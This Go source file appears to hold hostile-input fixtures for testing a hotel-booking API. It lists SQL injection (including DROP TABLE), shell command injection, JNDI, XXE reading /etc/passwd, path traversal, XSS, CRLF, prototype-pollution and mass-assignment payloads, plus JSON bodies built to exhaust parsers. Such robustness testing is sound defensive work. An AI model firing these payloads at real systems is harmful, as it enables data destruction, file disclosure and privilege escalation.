package main

import (
	"strings"
)

// A hostile string is one that some interpreter on its way would take for more than text.
type hostile struct{ name, text string }

// hostileStrings are for every place that takes a string.
func hostileStrings() []hostile {
	return []hostile{
		{"SQL quote", "' OR '1'='1"},
		{"SQL statement", "x'; DROP TABLE users; --"},
		{"SQL cast", "1::int/0"},
		{"SQL in quotes", `"; SELECT pg_sleep(10); --`},
		{"SQL wildcards", "%_\\%"},
		{"CRLF header", "x\r\nSet-Cookie: injected=1"},
		{"CRLF response", "x\r\n\r\nHTTP/1.1 200 OK\r\n\r\n"},
		{"line of the log", "x\n{\"level\":\"ERROR\",\"msg\":\"injected\"}"},
		{"ANSI escape", "\x1b[2J\x1b[31minjected"},
		{"template", "{{.Secret}}${7*7}<%= 7*7 %>#{7*7}"},
		{"JNDI", "${jndi:ldap://injected.example/a}"},
		{"script", "<script>alert('injected')</script>"},
		{"path", "../../../../etc/passwd"},
		{"path on Windows", `..\..\windows\win.ini`},
		{"encoded path", "%2e%2e%2fetc%2fpasswd"},
		{"NUL", "x\x00y"},
		{"invalid UTF-8", "x\xff\xfey"},
		{"overlong UTF-8", "x\xc0\xaf\xc0\xae"},
		{"surrogate", "x\xed\xa0\x80"},
		{"direction override", "x\u202egnp.exe"},
		{"zero width", "a\u200b\u200d\ufeffb"},
		{"only zero width", "\u200b\u200d"},
		{"format of Go", "%s%d%!v(MISSING)%n"},
		{"shell", "$(touch /tmp/injected)`id`|id;id&"},
		{"LDAP", "*)(uid=*))(|(uid=*"},
		{"huge number", strings.Repeat("9", 400)},
		{"long", strings.Repeat("a", 8000)},
	}
}

// hostileBodies are no JSON text that any operation takes.
func hostileBodies() map[string]string {
	return map[string]string{
		"nested arrays":      strings.Repeat("[", 30_000),
		"nested objects":     strings.Repeat(`{"a":`, 10_000),
		"nested and closed":  strings.Repeat("[", 20_000) + strings.Repeat("]", 20_000),
		"nested member":      `{"title":` + strings.Repeat("[", 40) + strings.Repeat("]", 40) + "}",
		"huge exponent":      `{"price":1e999999999}`,
		"huge integer":       `{"price":` + strings.Repeat("9", 20_000) + "}",
		"tiny fraction":      `{"price":1e-999999999}`,
		"duplicate members":  `{"title":"a","title":"b"}`,
		"trailing data":      `{"title":"a"} {}`,
		"lone surrogate":     `{"title":"\ud800"}`,
		"NUL":                `{"title":"\u0000"}`,
		"invalid UTF-8":      "{\"title\":\"\xff\"}",
		"byte order mark":    "\ufeff{}",
		"UTF-16":             "\xff\xfe{\x00}\x00",
		"not a number":       `{"price":NaN}`,
		"comment":            `{/* */}`,
		"XML":                `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>`,
		"prototype":          `{"__proto__":{"role":"admin"},"constructor":{"prototype":{"role":"admin"}}}`,
		"array for object":   `[{"title":"a"}]`,
		"string for object":  `"{}"`,
		"null":               `null`,
		"nothing":            ``,
		"compressed by gzip": "\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff\xab\xae\x05\x00\x43\xbf\xa6\xa3\x02\x00\x00\x00",
	}
}

// forgedKeys are no values of Idempotency-Key.
func forgedKeys() []string {
	return []string{
		"", `""`, strings.Repeat("k", 256), `"` + strings.Repeat("k", 256) + `"`, "schlüssel", "a b", "a\tb", "ключ", `"open`,
		"x\x7f", "x\u200b",
	}
}

// intruders are fields that clients may wish to set and no operation lets everybody set.
func intruders() map[string]any {
	fields := map[string]any{
		"__proto__":   map[string]any{"role": "admin"},
		"constructor": map[string]any{"prototype": map[string]any{"role": "admin"}},
		"user":        map[string]any{"id": 1, "role": "admin"},
		"hotel":       map[string]any{"id": 2},
		"":            "nameless",
	}
	for _, name := range []string{"id", "role", "user_id", "hotel_id", "room_id", "session_id", "owner_id", "created_by"} {
		fields[name] = 1
		fields[strings.ToUpper(name)] = 1
	}
	for _, name := range []string{
		"created_at", "updated_at", "disabled_at", "archived_at", "cancelled_at", "deleted_at", "password_hash", "password",
		"status", "reference", "slug", "currency", "email", "email_verified", "is_admin", "admin", "disabled", "variants",
		"room_title", "hotel_title", "nightly", "otp", "totp_secret",
	} {
		fields[name] = "x"
	}
	for _, name := range []string{"price", "total", "total_price", "booked", "version", "priority", "available"} {
		fields[name] = 0
	}
	return fields
}
